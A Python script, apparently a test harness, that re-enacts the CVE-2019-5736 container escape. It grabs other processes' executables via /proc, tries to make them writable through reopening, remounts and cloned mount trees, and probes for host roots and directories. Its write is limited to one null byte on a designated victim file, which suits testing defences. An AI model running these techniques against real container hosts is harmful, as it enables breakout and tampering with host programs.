"""The attack of CVE-2019-5736 as a program, for a container: it opens the executable of every process that it sees, and then tries to write to it.

Run as `seal_attack.py OUT SIZE INODE`, until there is a file `OUT/stop`. A byte is written only to what has the size and inode of the victim, or to
a file in memory: whatever else turns out to be writable is told and left as it is, and the container's own programs are let alone.
`OUT/found` is a JSON object of what came of it.
"""

from __future__ import annotations

import ctypes
import json
import os
import stat
import sys
from typing import Any

_OPEN_TREE, _MOUNT_SETATTR = 428, 442
_EMPTY_PATH, _CLONE, _RDONLY = 0x1000, 1, 1
_REMOUNT_BIND = 0x1020
_HELD = 40

libc = ctypes.CDLL(None, use_errno=True)


class Attack:
    def __init__(self, size: int, inode: int) -> None:
        self.victim = (size, inode)
        self.own = {self._identity(os.stat(path)) for path in ("/proc/self/exe", "/bin/busybox")}
        self.root = self._identity(os.stat("/"))
        self.found: dict[str, Any] = {
            "opened": 0,
            "denied": 0,
            "programs": [],
            "writable": [],
            "written": [],
            "roots": [],
            "directories": [],
        }
        self.held: dict[int, str] = {}

    @staticmethod
    def _identity(status: os.stat_result) -> tuple[int, int]:
        return status.st_dev, status.st_ino

    def look(self) -> None:
        for name in os.listdir("/proc"):
            if not name.isdigit() or int(name) == os.getpid():
                continue
            try:
                fd = os.open(f"/proc/{name}/exe", os.O_RDONLY)
            except PermissionError:
                self.found["denied"] += 1
                continue
            except OSError:
                continue
            self._look_closer(name)
            if self._identity(os.fstat(fd)) in self.own or len(self.held) >= _HELD:
                os.close(fd)
                continue
            self.found["opened"] += 1
            self.held[fd] = os.readlink(f"/proc/self/fd/{fd}")
            self._note("programs", self.held[fd])

    def _look_closer(self, name: str) -> None:
        """What would lead to the host: another root, a descriptor of a directory that is not the container's own by its name."""
        try:
            if self._identity(os.stat(f"/proc/{name}/root")) != self.root:
                self._note("roots", os.readlink(f"/proc/{name}/exe"))
            for fd in os.listdir(f"/proc/{name}/fd"):
                status = os.stat(f"/proc/{name}/fd/{fd}")
                if stat.S_ISDIR(status.st_mode) and not self._is_own(status, path := os.readlink(f"/proc/{name}/fd/{fd}")):
                    self._note("directories", path)
        except OSError:
            return

    def _is_own(self, status: os.stat_result, path: str) -> bool:
        try:
            return self._identity(os.stat(path)) == self._identity(status)
        except OSError:
            return False

    def write(self) -> None:
        for fd, path in list(self.held.items()):
            for opened in (self._reopen(fd), self._remounted(fd), self._cloned(fd)):
                if opened >= 0:
                    self._note("writable", path)
                    self._overwrite(opened, path)
                    os.close(opened)

    def forget(self) -> None:
        """Room for others: all of these have been tried since their processes ended."""
        if len(self.held) >= _HELD:
            for fd in self.held:
                os.close(fd)
            self.held.clear()

    def _overwrite(self, fd: int, path: str) -> None:
        status = os.fstat(fd)
        if (status.st_size, status.st_ino) == self.victim or path.startswith("/memfd:"):
            try:
                os.pwrite(fd, b"\0", 0)
                self._note("written", path)
            except OSError:
                return

    def _reopen(self, fd: int) -> int:
        try:
            return os.open(f"/proc/self/fd/{fd}", os.O_WRONLY)
        except OSError:
            return -1

    def _remounted(self, fd: int) -> int:
        clear = (ctypes.c_uint64 * 4)(0, _RDONLY, 0, 0)
        libc.syscall(_MOUNT_SETATTR, fd, b"", _EMPTY_PATH, clear, ctypes.c_size_t(32))
        libc.mount(b"none", b"/proc/self/fd/%d" % fd, None, ctypes.c_ulong(_REMOUNT_BIND), None)
        return self._reopen(fd)

    def _cloned(self, fd: int) -> int:
        tree = libc.syscall(_OPEN_TREE, fd, b"", _EMPTY_PATH | _CLONE)
        if tree < 0:
            return -1
        clear = (ctypes.c_uint64 * 4)(0, _RDONLY, 0, 0)
        libc.syscall(_MOUNT_SETATTR, tree, b"", _EMPTY_PATH, clear, ctypes.c_size_t(32))
        opened = self._reopen(tree)
        os.close(tree)
        return opened

    def _note(self, kind: str, what: str) -> None:
        if what not in self.found[kind]:
            self.found[kind].append(what)


def main(out: str, size: int, inode: int) -> None:
    attack = Attack(size, inode)
    open(f"{out}/ready", "w").close()
    turns = 0
    while not os.path.exists(f"{out}/stop"):
        attack.look()
        turns += 1
        if turns % 20 == 0:
            attack.write()
            attack.forget()
    attack.look()
    attack.write()
    with open(f"{out}/part", "w") as file:
        json.dump(attack.found, file)
    os.rename(f"{out}/part", f"{out}/found")


if __name__ == "__main__":
    main(sys.argv[1], int(sys.argv[2]), int(sys.argv[3]))
